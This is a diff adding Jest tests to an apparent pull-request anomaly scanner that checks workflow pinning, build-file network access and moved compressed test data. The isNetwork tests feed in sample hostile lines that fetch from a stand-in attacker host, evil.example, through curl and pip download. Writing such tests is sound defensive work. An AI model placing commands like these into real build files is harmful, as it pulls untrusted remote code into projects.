@@ -7,6 +7,7 @@ import { join, relative } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import type { Finding } from '@security-actions/core';
 import { scanPr } from '../../actions/pr-anomaly-scan/src/engine';
+import { isNetwork } from '../../actions/pr-anomaly-scan/src/build';
 import { gitCheckout } from '../../actions/pr-anomaly-scan/src/git';
 import { riskScore } from '../../actions/pr-anomaly-scan/src/score';
 import { REPO_ROOT } from '../harness/run-action';
@@ -129,6 +130,44 @@ describe('real incidents are high', () => {
 });
 
 describe('ordinary changes of real projects stay quiet', () => {
+  it('scikit-image: a new reusable workflow pinning actions by tag as every other workflow does is low', () => {
+    const pins = at(of('scikit-image-reusable-workflow').findings, 'workflow/unpinned-uses');
+    expect(pins.map((f) => `${f.evidence} ${f.severity}`).sort()).toEqual([
+      'actions/cache@v4 low',
+      'actions/checkout@v5 low',
+      'actions/setup-python@v6 low',
+      'actions/upload-artifact@v4 low'
+    ]);
+    expect(pins.every((f) => f.properties?.convention === true)).toBe(true);
+  });
+
+  it('jupyterlab: a third-party action new to the project, pinned by tag, stays high', () => {
+    const pins = at(of('jupyterlab-new-action').findings, 'workflow/unpinned-uses');
+    expect(pins.map((f) => `${f.evidence} ${f.severity}`)).toEqual(['toshimaru/auto-author-assign@v1.3.4 high']);
+  });
+
+  it("xarray: a URL in a Sphinx Makefile's error message is no network access", () => {
+    expectQuiet(of('xarray-sphinx-makefile').findings, 'build/test-runner-hook');
+  });
+
+  it('scikit-image: a git build requirement pinned to a tag of the same repository is no new source', () => {
+    expectQuiet(of('scikit-image-devpy-tag').findings, 'deps/direct-url');
+  });
+
+  it('a message line is no network access, but a download in one still is', () => {
+    expect(isNetwork('\t@echo "Docs: https://sphinx-doc.org/"')).toBe(false);
+    expect(isNetwork("print('see https://numpy.org/doc')")).toBe(false);
+    expect(isNetwork('$(warning get it from https://example.org/)')).toBe(false);
+    expect(isNetwork('\techo $$(curl -s https://evil.example/p)')).toBe(true);
+    expect(isNetwork('\tpip download https://evil.example/p.whl')).toBe(true);
+    expect(isNetwork('echoserver https://evil.example/')).toBe(true);
+  });
+
+  it('xarray: gzip test data moved without a byte changed is low, not the xz alarm', () => {
+    const moved = at(of('xarray-test-data-rename').findings, 'binary/compressed-test-data');
+    expect(moved.map((f) => f.severity)).toEqual(['low']);
+  });
+
   it('numpy: a documentation URL in a conftest.py comment is no network access', () => {
     expectQuiet(of('numpy-conftest-comment').findings, 'build/test-runner-hook');
   });
